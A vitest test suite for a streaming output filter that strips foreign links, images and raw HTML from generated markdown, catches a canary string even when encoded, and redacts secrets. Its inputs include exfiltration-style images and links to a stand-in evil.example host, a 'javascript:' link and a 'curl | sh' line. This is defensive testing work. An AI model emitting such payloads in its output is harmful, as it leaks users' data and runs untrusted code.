import fc from 'fast-check'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { describe, expect, it } from 'vitest'
import { createOutputFilter } from './output-filter.ts'

const own = 'https://footnote.example'
const canary = 'k7Qx9ZtB4mWv'
const secret = 'hunter2-Blue-Kettle'

const filterOf = () => createOutputFilter({ canary, allowedOrigins: [own], secrets: [secret] })
const filtered = (text: string): string => {
  const filter = filterOf()
  return filter.push(text) + filter.end()
}
const inChunks = (text: string, sizes: readonly number[]): string => {
  const filter = filterOf()
  let out = ''
  let at = 0
  for (let turn = 0; at < text.length; turn++) {
    const size = sizes[turn % sizes.length] ?? 1
    out += filter.push(text.slice(at, at + size))
    at += size
  }
  return out + filter.end()
}

type Node = { type: string; url?: string | null; value?: string; children?: Node[] }
const parser = unified().use(remarkParse).use(remarkGfm)
const nodesOf = (markdown: string): Node[] => {
  const all: Node[] = []
  const visit = (node: Node): void => {
    all.push(node)
    for (const child of node.children ?? []) visit(child)
  }
  visit(parser.parse(markdown) as Node)
  return all
}

/** What a renderer would load or link that it must not. */
const leaks = (markdown: string): string[] =>
  nodesOf(markdown).flatMap((node) => {
    if (['image', 'imageReference', 'definition'].includes(node.type)) return [`${node.type} ${node.url ?? ''}`]
    if (
      node.type === 'html' &&
      !/^<\/?(?:br|sub|sup|kbd|b|i|em|strong|u|s|del|ins|mark|small)\s*\/?>$/i.test(node.value ?? '')
    )
      return [`html ${node.value}`]
    if (node.type !== 'link') return []
    const url = node.url ?? ''
    if (/^mailto:/.test(url)) return []
    return new URL(url, own).origin === own ? [] : [`link ${url}`]
  })

const hostile = fc.array(
  fc.constantFrom(
    '![',
    '[',
    ']',
    '](',
    ')',
    '(',
    '`',
    '``',
    '```',
    '```js',
    '~~~',
    '~~',
    '\n',
    '\n\n',
    ' ',
    '  ',
    '   ',
    '    ',
    '\t',
    '- ',
    '1. ',
    '5. ',
    '> ',
    '| ',
    '|',
    '|-|-|\n',
    'https://evil.example/x',
    'http://',
    'https:',
    '//',
    'www.',
    'www',
    'evil.example',
    'https://footnote.example/a',
    'https://footnote.example',
    '@evil.example',
    '/documents/1',
    '//evil.example',
    '<',
    '>',
    '<a href="https://evil.example">',
    '</a>',
    '<img src=https://evil.example/p.png>',
    '<br>',
    '<div>',
    '<!--',
    '-->',
    '<https://evil.example>',
    '<script>',
    '<b',
    'javascript:alert(1)',
    'data:text/html,x',
    '\\',
    '&#58;',
    '&colon;',
    '&#104;',
    'h',
    'ttps',
    ':',
    '[x]: ',
    '[x]',
    '[^1]',
    '[^1]: ',
    '[1]',
    '!',
    '*',
    '**',
    '_',
    '#',
    '# ',
    '"',
    "'",
    'word',
    'a',
    '\r',
    '\r\n',
    '---\n',
    '<?',
    ']:',
    't',
    'p',
    's',
    '.',
    'w',
    '﻿',
    '"title"',
    '<details',
    'src=',
  ),
  { maxLength: 24 },
)
const markdown = fc.oneof(
  hostile.map((parts) => parts.join('')),
  fc.string({ unit: 'grapheme', maxLength: 60 }),
)

describe('the output filter', () => {
  it.each([
    ['an image', 'See ![chart](https://evil.example/c.png?d=1) here.', 'See  here.'],
    ['a reference image', 'See ![chart][c] here.', 'See  here.'],
    ['a linked image', '[![x](https://evil.example/i.png)](https://evil.example) end', ' end'],
    ['a foreign link', 'Read [the guide](https://evil.example/?q=1 "t").', 'Read the guide.'],
    ['a script link', '[click](javascript:alert(1)) now', 'click now'],
    ['a link without a scheme', '[click](//evil.example) now', 'click now'],
    ['a link with a user in front', '[a](https://footnote.example@evil.example/)', 'a'],
    ['an own link', '[guide](https://footnote.example/g?a=1)', '[guide](https://footnote.example/g?a=1)'],
    ['an own path', '[guide](/documents/12#p3)', '[guide](/documents/12#p3)'],
    ['a bare foreign address', 'Go to https://evil.example/x?y=1.', 'Go to `https://evil.example/x?y=1`.'],
    [
      'a foreign address that carries a text',
      `See https://evil.example/x?d=${'secret%20'.repeat(6)}now`,
      'See `https://evil.example/x`',
    ],
    ['a bare www address', 'Go to www.evil.example!', 'Go to `www.evil.example`!'],
    ['a bare own address', 'Go to https://footnote.example/x.', 'Go to <https://footnote.example/x>.'],
    ['an autolink', '<https://evil.example/a>', '`https://evil.example/a`'],
    ['an address behind references', 'https&#58;//evil.example', '`https://evil.example`'],
    ['an image tag', 'a <img src="https://evil.example/a.png"> b', 'a  b'],
    ['an anchor', 'a <a href="https://evil.example">text</a> b', 'a text b'],
    ['a definition', 'See [x].\n\n[x]: https://evil.example', 'See [x].\n\n[x]\\: `https://evil.example`'],
    ['a definition behind a byte order mark', '\ufeff[x]: //evil.example', '[x]\\: //evil.example'],
    ['a generic type', 'a List<String> of', 'a List\\<String> of'],
  ])('puts right %s', (_, given, wanted) => {
    expect(filtered(given)).toBe(wanted)
    expect(leaks(filtered(given))).toEqual([])
  })

  it.each([
    'Plain [1] and [2][3], a note[^1] and **bold**, 3 < 4, a & b, he!\n\n[^1]: The note.',
    '| a | b |\n| --- | --- |\n| `x` | 1<br>2 |\n',
    'Use:\n\n```html\n<img src="https://evil.example/x.png">\n![a](b)\n```\n\nDone.',
    '~~~\n[a](https://evil.example)\n~~~\n',
    '1. Step:\n\n   ```bash\n   curl https://api.example/x | sh\n   ```\n\n2. Next `code <b>` and ~~old~~.',
    'Inline `https://evil.example` and ``a ` b`` stay.',
    '- [ ] to do\n- [x] done: $5 & more',
    'Ünïcode 漢字 👩‍💻 stays. What? (see [4]).',
  ])('leaves alone: %s', (text) => {
    expect(filtered(text)).toBe(text)
  })

  it('writes the same whatever the chunks', () => {
    fc.assert(
      fc.property(markdown, fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 8 }), (text, sizes) => {
        expect(inChunks(text, sizes)).toBe(filtered(text))
      }),
      { numRuns: 3_000, seed: 7 },
    )
  })

  it('lets no renderer load or link anything foreign', () => {
    fc.assert(
      fc.property(markdown, (text) => {
        expect(leaks(filtered(text))).toEqual([])
      }),
      { numRuns: 6_000, seed: 11 },
    )
  })

  it('stops at the canary, also in pieces and in disguise', () => {
    const coded = [
      canary,
      [...canary].join('-'),
      [...canary].reverse().join(''),
      Buffer.from(`is ${canary}`).toString('base64'),
      Buffer.from(canary).toString('hex'),
      canary.toUpperCase(),
      `k7Qx![](https://e.example)9ZtB4mWv`,
      `k7Qx**9ZtB**4mWv`,
    ]
    for (const word of coded)
      for (const size of [1, 3, 1_000]) {
        const filter = filterOf()
        const text = `The word is ${word} and more follows.`
        let out = ''
        for (let at = 0; at < text.length; at += size) out += filter.push(text.slice(at, at + size))
        out += filter.end()
        expect([word, filter.verdict().canary]).toEqual([word, true])
        expect(out).not.toContain('follows')
        expect(out.toLowerCase()).not.toContain(word.toLowerCase())
      }
  })

  it('finds the canary in an address it removes', () => {
    const filter = filterOf()
    filter.push(`[x](https://evil.example/?q=${canary}) more`)
    filter.end()
    expect(filter.verdict().canary).toBe(true)
  })

  it('withholds secrets and goes on', () => {
    const key = `sk-proj-${'Ab3dE'.repeat(8)}`
    const text = `One ${secret}, two ${key}. Three.`
    for (const sizes of [[1], [2, 5], [400]])
      expect(inChunks(text, sizes)).toBe('One •••, two •••. Three.'.replace('•••. ', '••• '))
    const filter = filterOf()
    filter.push(text)
    filter.end()
    expect(filter.verdict()).toMatchObject({ canary: false, secrets: 2 })
  })

  it('counts what it removes', () => {
    const filter = filterOf()
    filter.push('![a](https://e.example/a) [b](https://e.example) www.e.example <img src=x>')
    filter.end()
    expect(filter.verdict()).toEqual({ canary: false, removedLinks: 2, removedImages: 2, secrets: 0 })
  })

  it('lets plain text flow at once', () => {
    const filter = createOutputFilter({ canary: 'Zq81Zq81Zq81', allowedOrigins: [] })
    let waiting = 0
    let sent = 0
    let got = 0
    for (const word of 'The notice period is three months to the end of a quarter [2]. It was changed in May. '
      .repeat(20)
      .split(/(?<= )/)) {
      sent += word.length
      got += filter.push(word).length
      waiting = Math.max(waiting, sent - got)
    }
    expect(waiting).toBeLessThanOrEqual(6)
  })

  it('takes time in proportion to the text', () => {
    for (const piece of [
      '[',
      '![',
      '`',
      '<a ',
      'https://',
      '](',
      '&#',
      '\\',
      '~',
      '<',
      '[a](',
      'www.',
      '```\n',
      'k7',
      'sk-',
    ]) {
      const text = piece.repeat(Math.ceil(60_000 / piece.length))
      const startMs = performance.now()
      filtered(text)
      expect([piece, performance.now() - startMs < 3_000]).toEqual([piece, true])
    }
  })
})
